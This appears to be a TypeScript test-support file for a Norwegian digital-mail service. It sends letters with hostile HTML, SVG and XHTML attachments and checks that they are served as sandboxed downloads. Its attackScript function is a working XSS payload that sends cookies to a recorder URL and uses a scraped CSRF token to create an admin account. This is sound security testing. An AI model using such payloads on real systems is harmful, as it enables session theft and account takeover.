/**
 * What the XSS and session cases share: a node whose KRR lists one digital recipient (so
 * digital-only letters reach an inbox), an admin user, and the baseline letter of
 * support.ts; sending a digital-only letter with any documents and reading its inbox link
 * from the notification e-mail in DATA_DIR/outbox; the hostile documents themselves.
 */
import assert from 'node:assert/strict';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { addUser } from '../browser/support.js';
import {
  eventually,
  FNR,
  ORGNR,
  restForsendelse,
  restSend,
  startTestNode,
  type Creds,
  type TestNode,
} from '../factories.js';
import { acknowledgeBaseline, type HostileNode } from './support.js';

/** The recipient whose KRR entry has an e-mail address (digital letters, inbox links). */
export const MOTTAKER = FNR[0];
/** Name of the admin web user of these nodes (password: PASSORD of test/browser/support.ts). */
export const ADMIN = 'sikkerhetsadmin';
/** The sender of the hostile letters and of the baseline letter. */
export const AVSENDER = 'Ærlig kommune';

/** The recipient's mobile number in KRR (level-4 codes go there, to DATA_DIR/outbox). */
export const MOBIL = '+4799887766';

/** A hostile node as in support.ts, with a digital recipient (e-mail and mobile) in KRR and an admin user. */
export async function startXssNode(env: Record<string, string> = {}): Promise<HostileNode> {
  const root = await mkdtemp(join(tmpdir(), 'budbringer-xss-'));
  const krr = {
    personer: [
      {
        personidentifikator: MOTTAKER,
        reservasjon: 'NEI',
        status: 'AKTIV',
        kontaktinformasjon: { epostadresse: 'mottaker@example.no', mobiltelefonnummer: MOBIL },
      },
    ],
  };
  await writeFile(join(root, 'krr.json'), JSON.stringify(krr));
  const started = await startTestNode({ KRR_FILE: join(root, 'krr.json'), ...env }, join(root, 'data'));
  const t: TestNode = {
    ...started,
    async stop() {
      await started.stop();
      await rm(root, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
    },
  };
  const creds = await t.sender(AVSENDER, ORGNR);
  await addUser(t, ADMIN, 'admin');
  return { t, creds, baseline: await acknowledgeBaseline(t.url, creds) };
}

/** One document of a hostile letter. */
export interface HostileDoc {
  readonly filnavn: string;
  readonly mimeType: string;
  readonly bytes: Uint8Array;
}

/** Script that, run in our origin, marks the page, calls a recorder and tries to create an admin user. */
export function attackScript(recorder: string): string {
  return `window.top.pwned = 1; try { parent.pwned = 1; } catch (e) {}
new Image().src = '${recorder}/hit?c=' + encodeURIComponent(document.cookie) + '&o=' + encodeURIComponent(location.origin);
fetch('/forvaltning/hjelp').then(function (r) { return r.text(); }).then(function (t) {
  var m = /name="_csrf" value="([^"]+)"/.exec(t);
  var b = new URLSearchParams({ _csrf: m ? m[1] : '', nyttBrukernavn: 'angriper', nyttPassord: 'angriper-passord-123', rolle: 'admin' });
  return fetch('/forvaltning/konfigurasjon/${encodeURIComponent(AVSENDER)}/brukere', { method: 'POST', body: b });
}).then(function () { new Image().src = '${recorder}/done'; });`;
}

/** An HTML page carrying the attack script inline and as an event handler. */
export function hostileHtml(recorder: string): Uint8Array {
  return Buffer.from(`<!doctype html><html><head><title>Vedlegg</title></head><body onload="window.top.pwnedOnload=1">
<h1>Vedlegg</h1><script>${attackScript(recorder)}</script></body></html>`);
}

/** An SVG whose onload and script run the attack. */
export function hostileSvg(recorder: string): Uint8Array {
  return Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="window.top.pwnedOnload=1">
<script type="text/javascript"><![CDATA[${attackScript(recorder)}]]></script><rect width="10" height="10"/></svg>`);
}

/** An XHTML document with the attack script. */
export function hostileXhtml(recorder: string): Uint8Array {
  return Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>
<script type="text/javascript"><![CDATA[${attackScript(recorder)}]]></script></body></html>`);
}

/** The .eml files in the node's outbox. */
async function emls(h: HostileNode): Promise<string[]> {
  return (await readdir(join(h.t.dataDir, 'outbox')).catch(() => [] as string[])).filter((n) => n.endsWith('.eml'));
}

/**
 * Sends a digital-only letter to MOTTAKER with `docs` over REST v1, waits until it is
 * notified (its e-mail is written) and returns its id and the inbox link from the new e-mail.
 */
export async function sendDigitalOnly(
  h: HostileNode,
  docs: readonly HostileDoc[],
  overrides: Record<string, unknown> = {},
  creds: Creds = h.creds,
): Promise<{ id: string; link: string }> {
  const seen = new Set(await emls(h));
  const json = restForsendelse({
    tittel: 'Vedlegg fra avsender',
    kunDigitalLevering: true,
    mottaker: {
      postAdresse: { navn: 'Kari Nordmann', adresse1: 'Storgata 1', postNummer: '0155', postSted: 'Oslo' },
      digitalAdresse: { fodselsNummer: MOTTAKER },
    },
    dokumenter: docs.map((d) => ({ filnavn: d.filnavn, mimeType: d.mimeType })),
    ...overrides,
  });
  const sent = await restSend(
    h.t.url,
    creds,
    json,
    docs.map((d) => ({ filename: d.filnavn, bytes: d.bytes, contentType: d.mimeType })),
  );
  assert.equal(sent.status, 200, JSON.stringify(sent.body));
  const id = String(sent.body.id);
  // REST v1 shows a notified letter as VARSLET or SENDT_DIGITALT: the e-mail in the outbox is what counts here.
  const link = await eventually(
    async () => {
      for (const f of (await emls(h)).filter((n) => !seen.has(n))) {
        const raw = (await readFile(join(h.t.dataDir, 'outbox', f), 'utf8'))
          .replace(/=\r?\n/g, '')
          .replace(/=3D/g, '=');
        const m = /https?:\/\/[^/\s]+\/innboks\/([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)/.exec(raw);
        // The token's payload names the letter (src/app/inbox-links.ts): other letters' mails are skipped.
        const payload =
          m?.[1] === undefined ? [] : (JSON.parse(Buffer.from(m[1], 'base64url').toString('utf8')) as unknown[]);
        if (m !== null && payload[0] === id) return `${h.t.url}/innboks/${m[1]}.${m[2]}`;
      }
      return undefined;
    },
    15_000,
    `the e-mail for ${id}`,
  );
  return { id, link };
}

/** Asserts the headers of a sender's document served as a download, never rendered in our origin. */
export function assertDownloadOnly(res: Response, label: string): void {
  assert.equal(res.status, 200, label);
  assert.match(res.headers.get('content-disposition') ?? '', /^attachment;/, `${label}: Content-Disposition`);
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff', `${label}: nosniff`);
  assertSandboxed(res, label);
}

/** Asserts a CSP with `sandbox` and no allow-scripts / allow-same-origin, and `default-src 'none'`. */
export function assertSandboxed(res: Response, label: string): void {
  const csp = res.headers.get('content-security-policy') ?? '';
  assert.match(csp, /(^|;)\s*sandbox\s*(;|$)/, `${label}: CSP sandbox without exceptions: ${csp}`);
  assert.match(csp, /default-src 'none'/, `${label}: CSP ${csp}`);
}

/** The one-time codes sent by SMS so far, oldest first. */
export async function codesSent(h: HostileNode): Promise<string[]> {
  const dir = join(h.t.dataDir, 'outbox');
  const files = (await readdir(dir).catch(() => [] as string[])).filter((n) => n.endsWith('.sms.txt')).sort();
  const texts = await Promise.all(files.map((f) => readFile(join(dir, f), 'utf8')));
  return texts.flatMap((text) => /Engangskode for brev fra [^:]+: (\d{6})/.exec(text)?.[1] ?? []);
}
